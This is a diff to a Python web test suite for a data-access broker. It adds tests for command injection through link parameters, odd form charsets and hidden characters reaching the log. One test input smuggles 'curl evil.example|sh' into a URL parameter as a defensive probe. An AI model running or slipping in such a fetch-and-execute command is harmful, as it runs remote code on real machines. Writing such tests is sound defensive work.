@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import html
 import re
 from collections.abc import Callable, Iterator
 
@@ -14,7 +15,7 @@ from broker.models import Event
 from broker.web import portal, sign_in
 from tests.support.browser import Browser
 from tests.support.world import World
-from tests.web.conftest import BrowserOf
+from tests.web.conftest import BrowserOf, ClientOf
 
 SAFE = {"GET", "HEAD", "OPTIONS"}
 FORGED: dict[str, Callable[[Browser, Browser], tuple[str, dict[str, str]]]] = {
@@ -104,3 +105,35 @@ def test_no_page_leads_where_its_address_says(world: World, browser_of: BrowserO
     text = browser_of(world.person()).request("GET", path).text
     leads = re.findall(r'(?:href|action|src)="([^"]*)"', text)
     assert leads and all(re.match(r"#|/(?!/)", lead) for lead in leads), text
+
+
+@pytest.mark.parametrize("path", ["people?vendor", "grants?dataset", "leases?dataset", "why?dataset", "teams?vendor"])
+def test_a_link_puts_no_command_into_a_page(world: World, browser_of: BrowserOf, path: str) -> None:
+    admin = browser_of(world.person(roles=("admin",)))
+    text = html.unescape(admin.request("GET", f"/{path}=x%0acurl evil.example|sh%0a").text)
+    found = re.search(r'id="command"[^>]*>([^<]*)<', text)
+    assert found and ("'xcurl evil.example|sh'" in found[1] or "curl" not in found[1]), text
+
+
+@pytest.mark.parametrize("charset", ["utf-7", "punycode", "nonesuch"])
+@pytest.mark.parametrize("path", ["/people/import", "/teams/new"])
+def test_a_form_that_is_no_text_is_refused(world: World, browser_of: BrowserOf, path: str, charset: str) -> None:
+    admin = browser_of(world.person(roles=("admin",)))
+    fields = {"csrf_token": admin.csrf, "lines": "+2AA-", "name": "+2AA-"}
+    parts = "".join(
+        f'--x\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n' for name, value in fields.items()
+    )
+    headers = {"Content-Type": f"multipart/form-data; boundary=x; charset={charset}"}
+    assert admin.request("POST", path, content=f"{parts}--x--\r\n", headers=headers).status_code in (403, 404, 422)
+
+
+def test_no_hidden_character_gets_into_the_log(world: World, browser_of: BrowserOf, client_of: ClientOf) -> None:
+    guest, dataset, grant = world.guest()
+    browser = browser_of(guest)
+    before = events_of(world, guest.id)
+    for hidden in ("\u202egnp", "\u009b31m", "x" * 20_000):
+        form = {"csrf_token": browser.csrf, "slice": hidden, "kind": "postgres", "form_id": "a" * 30}
+        assert browser.request("POST", f"/grants/{grant.id}/credential", data=form).status_code == 422
+        asked = {"dataset": dataset.slug, "slice": hidden}
+        assert client_of(guest).post("/leases", json=asked).status_code == 422
+    assert events_of(world, guest.id) == before
